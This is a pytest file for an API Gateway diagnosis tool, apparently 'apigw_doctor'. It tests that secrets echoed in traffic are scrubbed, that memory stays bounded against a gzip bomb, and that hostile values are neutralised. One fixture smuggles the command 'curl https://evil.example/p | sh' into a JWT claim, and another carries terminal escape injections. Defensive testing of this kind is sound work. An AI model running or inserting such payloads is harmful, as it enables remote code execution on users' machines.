"""Text from the wire, made safe before it reaches a verdict, a shell command, a terminal or memory.

Issue 11, "Also found" items 3, 6 and 7 (and the `done` time limit of item 2): each test failed before its change.
"""

from __future__ import annotations

import gzip
import json
import shlex
import time
import tracemalloc

import pytest

from apigw_doctor.addon import ApiGwDoctor, annotate
from apigw_doctor.engine import diagnose_flow
from apigw_doctor.evidence import addon as evidence_addon
from apigw_doctor.evidence.addon import BundleWriter
from apigw_doctor.keys import load_keystore
from apigw_doctor.knowledge import Knowledge
from apigw_doctor.reading import read_flow
from apigw_doctor.render import comment, render_text
from tests.robustness.robust_flows import GATEWAY_DATE, flow, unsigned_jwt

DATE = (b"date", GATEWAY_DATE.encode())
SESSION_TOKEN = "IQoJb3JpZ2luX2VjEJr" + "Z" * 300 + "Secret0/+="
ISSUER = "https://cognito-idp.us-east-1.amazonaws.com/us-east-1_Abc"


def _verdict_texts(f) -> str:
    d = diagnose_flow(f, Knowledge())
    assert d is not None
    annotate(f, d)
    return "\n".join((render_text(d), comment(d), f.comment, json.dumps(f.metadata["apigw_doctor"])))


# --- item 3: secret shapes in wire texts ------------------------------------------------------------------------


def test_security_token_echoed_in_a_sigv4_canonical_request_is_scrubbed():
    message = (
        "The request signature we calculated does not match the signature you provided. Check your AWS Secret "
        "Access Key and signing method. Consult the service documentation for details.\n\nThe Canonical String "
        "for this request should have been\n'GET\n/prod/items\n\nhost:abc123defg.execute-api.us-east-1.amazonaws.com"
        f"\nx-amz-date:20261126T224000Z\nx-amz-security-token:{SESSION_TOKEN}\n\nhost;x-amz-date;"
        "x-amz-security-token\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'\n"
    )
    auth = (
        "AWS4-HMAC-SHA256 Credential=ASIAEXAMPLEEXAMPLE01/20261126/us-east-1/execute-api/aws4_request, "
        "SignedHeaders=host;x-amz-date;x-amz-security-token, Signature=" + "ab" * 32
    )
    f = flow(
        request_headers=[(b"authorization", auth.encode()), (b"x-amz-date", b"20261126T224000Z")],
        status=403,
        response_headers=[
            DATE,
            (b"content-type", b"application/json"),
            (b"x-amzn-errortype", b"InvalidSignatureException"),
        ],
        response_body=json.dumps({"message": message}).encode(),
    )
    text = _verdict_texts(f)
    assert "sigv4-signature-mismatch" in text  # still the right verdict
    assert SESSION_TOKEN[:40] not in text and "Z" * 100 not in text


def test_jwt_echoed_in_error_description_and_in_the_url_path_is_scrubbed():
    token = unsigned_jwt({"token_use": "access", "iss": ISSUER, "exp": 1}, signature="S1gnatureS1gnatureS1gnature")
    www = f'Bearer error="invalid_token" error_description="the token {token} has expired"'
    f = flow(
        host="h7tpapi001.execute-api.us-east-1.amazonaws.com",
        path=f"/items/{token}",
        request_headers=[(b"authorization", f"Bearer {token}".encode())],
        response_headers=[DATE, (b"www-authenticate", www.encode()), (b"content-type", b"application/json")],
        response_body=b'{"message":"Unauthorized"}',
    )
    reading = read_flow(f, Knowledge())
    assert reading is not None and reading.reply is not None
    assert "S1gnatureS1gnature" not in json.dumps(reading.reply.www_authenticate)
    assert "S1gnatureS1gnature" not in reading.target.path
    assert "S1gnatureS1gnature" not in _verdict_texts(f)


# --- item 6: bounded memory -------------------------------------------------------------------------------------


def test_gzip_bomb_is_never_inflated_whole():
    bomb = gzip.compress(b'{"message":"' + b"A" * (100 * 2**20) + b'"}', compresslevel=9)
    token = unsigned_jwt({"token_use": "id", "iss": ISSUER, "exp": 1})
    f = flow(
        request_headers=[(b"authorization", f"Bearer {token}".encode())],
        response_headers=[DATE, (b"content-encoding", b"gzip"), (b"x-amzn-errortype", b"UnauthorizedException")],
        response_body=bomb,
    )
    tracemalloc.start()
    try:
        d = diagnose_flow(f, Knowledge())
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert d is not None and d.cause
    assert peak < 8 * 2**20, f"peak {peak / 2**20:.1f} MB for a {len(bomb) // 1024} KB body"


def test_jwks_file_size_is_capped_with_a_clear_error():
    with pytest.raises(ValueError, match=r"apigw_jwks: /dev/zero is larger than 1 MB"):
        load_keystore(["/dev/zero"])


def test_credential_cache_is_bounded_by_bytes():
    knowledge = Knowledge()
    doctor = ApiGwDoctor()
    doctor.knowledge = knowledge
    for i in range(120):
        token = unsigned_jwt({"token_use": "id", "iss": ISSUER, "exp": 1, "pad": f"{i:04d}" + "x" * 60_000})
        diagnose_flow(flow(request_headers=[(b"authorization", f"Bearer {token}".encode())]), knowledge)
    held = sum(len(raw) for raw, _ in knowledge.credentials)
    assert held == knowledge.credential_bytes and held <= 4 * 2**20


# --- item 7: shell commands and terminals -----------------------------------------------------------------------


def test_traffic_values_in_suggested_commands_are_quoted():
    aud = "x; curl https://evil.example/p | sh;"
    token = unsigned_jwt({"token_use": "id", "iss": ISSUER, "aud": aud, "exp": 1})
    f = flow(
        request_headers=[(b"authorization", f"Bearer {token}".encode())],
        response_headers=[DATE, (b"x-amzn-errortype", b"UnauthorizedException")],
    )
    d = diagnose_flow(f, Knowledge())
    assert d is not None
    for step in d.fix:
        if "curl https://evil" in step:
            assert shlex.quote(aud) in step, step
    assert not any(f"{aud}" in step.replace(shlex.quote(aud), "") for step in d.fix)


def test_control_characters_from_claims_never_reach_the_terminal_or_metadata():
    evil = "alice\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\x1b[2J\x9b31m"
    token = unsigned_jwt({"token_use": "id", "iss": evil, "aud": evil, "exp": 1, "cognito:username": evil})
    f = flow(
        path="/prod/items/\x1b[2J",
        request_headers=[(b"authorization", f"Bearer {token}".encode())],
        response_headers=[DATE, (b"x-amzn-errortype", b"UnauthorizedException")],
    )
    text = _verdict_texts(f)
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text


# --- item 2: done finishes within a few seconds, whatever is queued ---------------------------------------------


def test_done_finishes_within_its_time_limit_whatever_is_queued(tmp_path, monkeypatch):
    def slow(*_args, **_kw):
        time.sleep(0.5)
        return tmp_path

    monkeypatch.setattr(evidence_addon, "write_bundle", slow)
    said = []
    writer = BundleWriter(tmp_path, max_bytes=None, personal=False, say=lambda level, m: said.append(m))
    for _ in range(200):
        writer.submit(flow().get_state())
    start = time.monotonic()
    left = writer.close(timeout=1.0)
    elapsed = time.monotonic() - start
    assert elapsed < 5, elapsed  # 200 bundles at 0.5 s each would take 100 s
    assert left > 150
